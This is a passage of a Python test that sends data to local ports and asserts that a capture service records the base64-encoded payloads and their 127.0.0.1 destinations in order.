                    while c.recv(4096):
                        pass
                except OSError:
                    pass
                c.close()
        evs = s.wait_events(lambda e: e["dst_port"] == s.ports["raw"], count=len(sent))
        got = sorted(base64.b64decode(e["payload_b64"]) for e in evs)
        assert got == sorted(sent)
        assert all(e["dst_ip"] == "127.0.0.1" for e in evs)
        deadline = time.time() + 30
        wevs = []
        while time.time() < deadline and len(wevs) < len(sent):
            with open(w_out) if os.path.exists(w_out) else open(os.devnull) as f:
                wevs = [json.loads(l) for l in f if l.strip()]
            time.sleep(0.05)
        assert sorted(base64.b64decode(e["payload_b64"]) for e in wevs) == sorted(sent)
        assert all(e["dst_ip"] == "127.0.0.1" and e["dst_port"] == wild_port for e in wevs)
    finally:
        wild.terminate()
        wild.wait(timeout=30)
    assert s.stop() == 0
